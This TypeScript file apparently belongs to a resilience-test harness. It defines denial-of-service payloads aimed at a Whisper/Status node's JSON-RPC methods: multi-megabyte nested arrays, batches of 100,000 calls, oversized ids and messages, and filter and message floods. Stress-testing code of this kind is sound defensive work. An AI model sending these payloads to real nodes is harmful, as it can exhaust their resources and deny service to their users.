import { bytesToHex, randomBytes } from '@status-stack/crypto'
import { createIdentityKey } from '@status-stack/status-accounts'
import type { Attack, Attacked } from './attacks.ts'
import { handled } from './flood.ts'
import { freshEnvelope, sealedFor, sendEnvelopes, type Victim } from './victim.ts'

const hex = (bytes: number): string => `0x${bytesToHex(randomBytes(bytes))}`
const call = (method: string, params: readonly unknown[] = [], id = 1): string =>
  JSON.stringify({ jsonrpc: '2.0', id, method, params })

/** Texts of a client, one after the other. */
function texts(door: string, name: string, make: (scale: number) => readonly string[]): Attack {
  return {
    door,
    name,
    prepare: async ({ call: answerTo }, scale) => {
      const all = make(scale)
      return async (): Promise<Attacked> => {
        let bytes = 0
        let refused = 0
        for (const text of all) {
          bytes += text.length
          if ((await answerTo(text))?.includes('"error":{') === true) refused += 1
        }
        return { bytes, outcome: `${all.length} answers${refused > 0 ? `, ${refused} of them errors` : ''}` }
      }
    }
  }
}

const many = (count: number, make: (at: number) => string): readonly string[] =>
  Array.from({ length: Math.ceil(count) }, (_, at) => make(at))

const unknownEnode = `enode://${bytesToHex(createIdentityKey(randomBytes(32)).publicKey.slice(1))}@127.0.0.1:30303`

/** The result of a call. */
async function resultOf(victim: Victim, method: string, params: readonly unknown[]): Promise<unknown> {
  const answer = JSON.parse((await victim.call(call(method, params))) ?? '{}')
  if (answer.result === undefined) throw new Error(`${method}: ${JSON.stringify(answer.error)}`)
  return answer.result
}

/** Filters of one key, made and deleted again. */
function filterFlood(topics: number): Attack {
  return {
    door: 'JSON-RPC shh_newMessageFilter',
    name: `200 filters of ${topics} topics, made and deleted`,
    prepare: async (victim, scale) => {
      const symKeyID = await resultOf(victim, 'shh_newSymKey', [])
      const wanted = many(200 * scale, () =>
        JSON.stringify({ symKeyID, topics: Array.from({ length: topics }, () => hex(4)) })
      )
      return async (): Promise<Attacked> => {
        let bytes = 0
        for (const each of wanted) {
          bytes += each.length
          const id = await resultOf(victim, 'shh_newMessageFilter', [JSON.parse(each)])
          await resultOf(victim, 'shh_deleteMessageFilter', [id])
        }
        return { bytes, outcome: `${wanted.length} filters` }
      }
    }
  }
}

/** A filter that holds many messages when it is asked. */
const pollFlood: Attack = {
  door: 'JSON-RPC shh_getFilterMessages',
  name: 'a filter with 2 000 messages of 1 kB',
  prepare: async (victim, scale) => {
    const [topic, key] = [randomBytes(4), randomBytes(32)]
    const symKeyID = await resultOf(victim, 'shh_addSymKey', [`0x${bytesToHex(key)}`])
    const id = await resultOf(victim, 'shh_newMessageFilter', [{ symKeyID, topics: [`0x${bytesToHex(topic)}`] }])
    const peer = await victim.join()
    const count = Math.ceil(2000 * scale)
    await sendEnvelopes(
      peer,
      Array.from({ length: count }, () => freshEnvelope(topic, sealedFor(key, randomBytes(1000))))
    )
    await handled(victim, peer)
    await peer.close()
    return async (): Promise<Attacked> => {
      const text = call('shh_getFilterMessages', [id])
      const answer = (await victim.call(text)) ?? ''
      await resultOf(victim, 'shh_deleteMessageFilter', [id])
      return { bytes: text.length, outcome: `${(answer.length / 1e6).toFixed(1)} MB` }
    }
  }
}

/** Every method in its cheapest form; those that cost something have a dear one too. */
export const rpcAttacks: readonly Attack[] = [
  texts('JSON-RPC', 'nested arrays, 5 MB', scale =>
    many(scale, () => `${'['.repeat(2_500_000)}${']'.repeat(2_500_000)}`)
  ),
  texts('JSON-RPC', '1.7 million empty arrays', scale => many(scale, () => `[${'[],'.repeat(1_700_000)}[]]`)),
  texts('JSON-RPC', 'deep parameters', scale =>
    many(
      scale,
      () => `{"jsonrpc":"2.0","id":1,"method":"shh_version","params":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`
    )
  ),
  texts('JSON-RPC', 'a batch of 1 000 calls', scale =>
    many(scale, () => `[${many(1000, at => call('shh_version', [], at)).join()}]`)
  ),
  texts('JSON-RPC', 'a batch of 100 000 calls', scale =>
    many(scale, () => `[${many(100_000, at => call('shh_version', [], at)).join()}]`)
  ),
  ...[
    'shh_version',
    'shh_info',
    'net_version',
    'net_listening',
    'net_peerCount',
    'rpc_modules',
    'shh_newKeyPair',
    'shh_newSymKey'
  ].map(method => texts(`JSON-RPC ${method}`, '200 calls', scale => many(200 * scale, () => call(method)))),
  ...[
    'shh_hasKeyPair',
    'shh_getPublicKey',
    'shh_getPrivateKey',
    'shh_getSymKey',
    'shh_uninstallFilter',
    'shh_markTrustedPeer',
    'shh_hasSymKey',
    'shh_deleteKeyPair',
    'shh_deleteSymKey',
    'shh_getFilterMessages',
    'shh_deleteMessageFilter'
  ].map(method =>
    texts(`JSON-RPC ${method}`, '200 calls with ids of 10 kB', scale =>
      many(200 * scale, () => call(method, ['f'.repeat(10_000)]))
    )
  ),
  texts('JSON-RPC shh_addSymKey', '200 keys', scale => many(200 * scale, () => call('shh_addSymKey', [hex(32)]))),
  texts('JSON-RPC shh_addPrivateKey', '50 keys', scale => many(50 * scale, () => call('shh_addPrivateKey', [hex(32)]))),
  texts('JSON-RPC shh_setBloomFilter', '100 changes', scale =>
    many(100 * scale, at => call('shh_setBloomFilter', [`0x${(at % 2 === 0 ? '00' : 'ff').repeat(64)}`]))
  ),
  texts('JSON-RPC shh_generateSymKeyFromPassword', '20 passwords', scale =>
    many(20 * scale, at => call('shh_generateSymKeyFromPassword', [`password ${at}`]))
  ),
  texts('JSON-RPC shh_makeLightClient', '100 changes there and back', scale =>
    many(100 * scale, at => call(at % 2 === 0 ? 'shh_makeLightClient' : 'shh_cancelLightClient'))
  ),
  texts('JSON-RPC shh_setMaxMessageSize', '100 calls', scale =>
    many(100 * scale, () => call('shh_setMaxMessageSize', [1024 * 1024]))
  ),
  filterFlood(1),
  filterFlood(100),
  pollFlood,
  texts('JSON-RPC shhext_echo', 'a text of 1 MB', scale =>
    many(3 * scale, () => call('shhext_echo', ['e'.repeat(1_000_000)]))
  ),
  ...['shhext_requestMessages', 'shhext_requestMessagesSync'].map(method =>
    texts(`JSON-RPC ${method}`, '100 requests with 1 000 topics', scale => {
      const request = { mailServerPeer: unknownEnode, topics: many(1000, () => hex(4)), timeout: 1 }
      const retry = { BaseTimeout: 1, StepTimeout: 1, MaxRetries: 1000 }
      return many(100 * scale, () => call(method, method.endsWith('Sync') ? [retry, request] : [request]))
    })
  ),
  texts('JSON-RPC shhext_updateMailservers', '20 lists of 100', scale =>
    many(20 * scale, () => call('shhext_updateMailservers', [many(100, () => unknownEnode)]))
  ),
  texts('JSON-RPC shh_setMinPoW', '100 changes', scale => many(100 * scale, () => call('shh_setMinPoW', [0]))),
  texts('JSON-RPC shh_post', 'a message of 1 MB', scale =>
    many(3 * scale, () =>
      call('shh_post', [
        { symKeyID: '0'.repeat(64), topic: hex(4), payload: hex(1_000_000), ttl: 10, powTime: 0, powTarget: 0 }
      ])
    )
  )
]
